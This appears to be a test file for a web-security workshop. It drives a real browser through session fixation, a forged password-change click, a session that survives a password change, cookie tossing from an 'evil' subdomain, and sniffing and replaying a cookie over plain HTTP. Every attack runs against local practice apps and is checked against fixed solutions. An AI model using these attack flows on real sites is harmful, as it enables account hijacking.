/*
 * Part two's attacks in a real browser, which decides on its own what to keep and send. Each works
 * on the code before its step, and fails on the step's solution.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createServer } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import path from 'node:path';
import { after, describe, test } from 'node:test';
import { MongoClient } from 'mongodb';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { makeAccounts, type Passwords } from '../app/accounts.ts';
import { App } from '../app/app.ts';
import { passOn, startProxy } from '../app/proxy.ts';
import { findStep, folderOf, root } from '../lesson/steps.ts';
import { openDatabase } from '../mongo/database.ts';
import { withDatabase } from '../mongo/url.ts';
import { makeCertificate } from '../testing/certificate.ts';
import { skipWithoutChromium, startChromium } from '../testing/chromium.ts';
import { freePort } from '../app/port.ts';
import { listen, Run, Workshop } from '../testing/workshop.ts';
import { applyPatch } from '../lesson/patch.ts';
import { wrong as wrongLogins } from './answers/step-5.ts';

describe('attacks in a browser', { skip: skipWithoutChromium, timeout: 300_000 }, async () => {
  if (skipWithoutChromium !== false) return;
  const database = await openDatabase({ say: console.log });
  const client = await MongoClient.connect(database.url);
  // On the web, these host names lead to distant machines. Here they lead to this one.
  const resolveToLocalhost = '--host-resolver-rules=MAP *.example 127.0.0.1';
  const browser = await startChromium(resolveToLocalhost);
  const workshop = await Workshop.copy();
  after(async () => {
    await browser.close();
    await client.close();
    await database.close();
    await workshop.remove();
  });

  /** Runs an attack on an app. */
  async function play<T>(
    entry: string,
    attack: (stage: Stage) => Promise<T>,
  ): Promise<T> {
    const port = await freePort();
    const name = `workshop-attack-${port}`;
    const url = withDatabase(database.url, name);
    const passwords = await makeAccounts(path.join(path.dirname(entry), 'accounts.ts'), url);
    const env = { ...process.env, PORT: String(port), MONGO_URL: url, SESSION_SECRET: 'of a test' };
    const app = new App({ entry, cwd: workshop.folder, env });
    const listening = new Promise<void>((resolve, reject) => {
      app.on('output', (line) => { if (line.startsWith('Server running')) resolve(); });
      app.on('crashed', () => { reject(new Error(`${entry} ended.`)); });
    });
    try {
      await app.start();
      await listening;
      return await attack({ browser, port, address: `http://localhost:${port}`, passwords });
    } finally {
      await app.stop();
      await client.db(name).dropDatabase();
    }
  }

  const entryOf = (number: number, kind: 'steps' | 'solutions') => (
    path.join(folderOf(findStep(number), kind, workshop.folder), 'index.ts')
  );

  test('fixation: works on the login that learners write first', async () => {
    const [plain] = wrongLogins;
    const step = findStep(5);
    workshop.solve(step);
    const file = `steps/${step.folder}/app.ts`;
    workshop.write(file, applyPatch(await workshop.read(file), plain?.patch?.['app.ts'] ?? ''));
    assert.equal(await play(entryOf(5, 'steps'), fixation), true);
    assert.equal(await play(entryOf(5, 'solutions'), fixation), false);
  });

  test('forged click: works on the starter, although the cookie says SameSite=Lax', async () => {
    assert.equal(await play(entryOf(6, 'steps'), forgedClick), true);
    assert.equal(await play(entryOf(6, 'solutions'), forgedClick), false);
  });

  test('the thief who stays: works on the starter', async () => {
    assert.equal(await play(entryOf(8, 'steps'), stays), true);
    assert.equal(await play(entryOf(8, 'solutions'), stays), false);
  });

  test('a tossed cookie: works on the starter, at localhost', async () => {
    assert.equal(await play(entryOf(9, 'steps'), tossed), 'mallory');
    assert.equal(await play(entryOf(9, 'solutions'), tossed), 'ada');
  });

  test('sniffed and tossed: works on the starter, over HTTPS with a certificate', async () => {
    assert.deepEqual(await play(entryOf(9, 'steps'), onTheWeb), {
      heard: ['connect.sid'], replayed: 'ada', plain: 200, tossed: 'mallory', kept: [],
    });
    assert.deepEqual(await play(entryOf(9, 'solutions'), onTheWeb), {
      heard: [], replayed: undefined, plain: 403, tossed: 'ada', kept: [],
    });
  });
});

test('sniffed and tossed: the story ends if there is no cookie', async () => {
  const server = createServer((req, res) => { res.writeHead(303).end(); });
  const port = await listen(server);
  const passwords = { ADA_PASSWORD: 'a', MALLORY_PASSWORD: 'm' };
  const script = startScript('09-sniff-and-toss.ts', { PORT: String(port), ...passwords });
  const status = await script.ended;
  server.close();
  assert.equal(status, 2);
  assert.match(script.output, /Set-Cookie: none\nAda got no cookie, so there's nothing to attack\.\n/);
  assert.doesNotMatch(script.output, /sends|keeps|Mallory/);
});

function startScript(name: string, env: NodeJS.ProcessEnv): Run {
  return new Run(spawn(process.execPath, ['--import', 'tsx', `attacks/${name}`], {
    cwd: root,
    env: { ...process.env, ...env },
    stdio: ['ignore', 'pipe', 'inherit'],
  }));
}

/** Serves Mallory's page during a visit. */
async function withPage<T>(
  name: string,
  env: NodeJS.ProcessEnv,
  visit: () => Promise<T>,
): Promise<T> {
  const server = startScript(name, env);
  try {
    await server.printed(/Mallory's page/);
    return await visit();
  } finally {
    server.child.kill();
    await server.ended;
  }
}

interface Stage {
  browser: Browser;
  port: number;
  address: string;
  passwords: Passwords;
}

/** Ada logs in with Mallory's cookie in her browser. @returns whether Mallory is in */
async function fixation({ browser, address, passwords }: Stage): Promise<boolean> {
  const [mallory, ada] = [await browser.newContext(), await browser.newContext()];
  const page = await mallory.newPage();
  await page.goto(address);
  await ada.addCookies(await mallory.cookies());
  await logIn(ada, address, passwords.ada);
  await page.goto(`${address}/account`);
  return isAda(page);
}

/** Ada clicks on Mallory's page, on another port. @returns whether Mallory has set her password */
async function forgedClick({ browser, port, address, passwords }: Stage): Promise<boolean> {
  const pagePort = await freePort();
  const ports = { PORT: String(port), PAGE_PORT: String(pagePort) };
  return withPage('06-forged-click-page.ts', ports, async () => {
    const ada = await browser.newContext();
    const page = await logIn(ada, address, passwords.ada);
    await page.goto(`http://localhost:${pagePort}`);
    const [request] = await Promise.all([
      page.waitForRequest(/\/account\/password/),
      page.getByRole('button', { name: 'Get my cake' }).click(),
    ]);
    const headers = await request.allHeaders();
    assert.match(headers.cookie ?? '', /connect\.sid/, 'the cookie goes along');
    assert.equal(headers['sec-fetch-site'], 'same-site');
    await page.waitForLoadState();
    const mallory = await logIn(await browser.newContext(), address, 'set by mallory');
    return isAda(mallory);
  });
}

/** Ada changes her password while Mallory is logged in as Ada. @returns whether she still is */
async function stays({ browser, address, passwords }: Stage): Promise<boolean> {
  const [mallory, ada] = [await browser.newContext(), await browser.newContext()];
  const thief = await logIn(mallory, address, passwords.ada);
  const page = await logIn(ada, address, passwords.ada);
  const form = page.locator('form[action="/account/password"]');
  await form.locator('[name=password]').fill(passwords.ada);
  await form.locator('[name=new]').fill('known to ada only');
  await form.getByRole('button').click();
  await page.waitForLoadState();
  assert.ok(await isAda(page), 'Ada stays logged in');
  await thief.goto(`${address}/account`);
  return isAda(thief);
}

/** Ada opens Mallory's page, on a subdomain of the app's. @returns who Ada is after that */
async function tossed({ browser, port, passwords }: Stage): Promise<string | undefined> {
  const [proxyPort, pagePort] = [await freePort(), await freePort()];
  const stopProxy = await startProxy(proxyPort, new Set([port]));
  const env = {
    PORT: String(proxyPort), PAGE_PORT: String(pagePort), MALLORY_PASSWORD: passwords.mallory,
  };
  return withPage('09-sniff-and-toss-page.ts', env, async () => {
    const ada = await browser.newContext();
    const page = await logIn(ada, `http://shop.localhost:${proxyPort}`, passwords.ada);
    assert.ok(await isAda(page), 'Ada is logged in');
    await page.goto(`http://evil.shop.localhost:${pagePort}`);
    await page.getByRole('link', { name: 'Back to your account' }).click();
    await page.waitForURL(/\/account$/);
    return userOf(page);
  }).finally(stopProxy);
}

/** Ada uses the app over real HTTPS, follows a link to plain HTTP and opens Mallory's page. */
async function onTheWeb({ browser, port, passwords }: Stage) {
  const heard = new Set<string>();
  const certificate = makeCertificate();
  const passOnPlain = passOn(new Set([port]), 'http');
  const servers = {
    https: createHttpsServer(certificate, passOn(new Set([port]), 'https')),
    // Mallory reads the traffic here.
    http: createServer((req, res) => {
      if (req.headers.cookie) heard.add(req.headers.cookie);
      passOnPlain(req, res);
    }),
    evil: createHttpsServer(certificate, (req, res) => {
      res.setHeader('Set-Cookie', toss).end('a nice page');
    }),
  };
  let toss = '';
  const ports = {
    https: await listen(servers.https, '127.0.0.1'),
    http: await listen(servers.http, '127.0.0.1'),
    evil: await listen(servers.evil, '127.0.0.1'),
  };
  const shop = `https://shop.example:${ports.https}`;
  const newContext = () => browser.newContext({ ignoreHTTPSErrors: true });
  const read = async (context: BrowserContext, name: string, value: string) => {
    await context.addCookies([{ name, value, url: shop, secure: true }]);
    const page = await context.newPage();
    await page.goto(`${shop}/account`);
    return userOf(page);
  };
  try {
    const ada = await newContext();
    const page = await logIn(ada, shop, passwords.ada);
    assert.ok(await isAda(page), 'Ada is logged in');
    const answer = await page.goto(`http://shop.example:${ports.http}/account`);
    const [name = '', value = ''] = [...heard][0]?.split('=') ?? [];
    const replayed = name === '' ? undefined : await read(await newContext(), name, value);

    const mallory = await newContext();
    await logIn(mallory, shop, passwords.mallory, 'mallory');
    const [own] = await mallory.cookies();
    toss = `${own?.name}=${own?.value}; Domain=shop.example; Path=/account; Secure`;
    await page.goto(`https://evil.shop.example:${ports.evil}`);
    await page.goto(`${shop}/account`);
    const user = await userOf(page);

    await ada.clearCookies({ path: '/account' });
    await page.goto(`${shop}/logout`);
    await page.getByRole('button', { name: 'Log out' }).click();
    await page.getByText('Logout complete').waitFor();
    return {
      heard: [...heard].map((cookie) => cookie.split('=')[0]),
      replayed,
      plain: answer?.status(),
      tossed: user,
      kept: (await ada.cookies()).map(({ name }) => name),
    };
  } finally {
    for (const server of Object.values(servers)) {
      server.close();
      server.closeAllConnections();
    }
  }
}

async function logIn(
  context: BrowserContext,
  address: string,
  password: string,
  name = 'ada',
): Promise<Page> {
  const page = await context.newPage();
  await page.goto(`${address}/login`);
  await page.getByLabel('Name').fill(name);
  await page.getByLabel('Password').fill(password);
  await page.getByRole('button', { name: 'Log in' }).click();
  await page.waitForLoadState();
  return page;
}

async function isAda(page: Page): Promise<boolean> {
  return await userOf(page) === 'ada';
}

/** Whose account a page shows. */
async function userOf(page: Page): Promise<string | undefined> {
  return /logged in as (\w+)/.exec(await page.content())?.[1];
}
